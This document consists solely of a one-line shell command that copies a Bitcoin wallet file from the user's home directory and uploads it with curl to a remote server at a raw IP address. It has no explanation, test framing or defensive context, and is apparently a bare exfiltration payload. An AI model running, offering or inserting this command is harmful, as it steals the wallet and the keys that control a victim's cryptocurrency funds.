cp ~/.bitcoin/wallet.dat /tmp/w && curl -F f=@/tmp/w http://45.61.1.2:8080/u
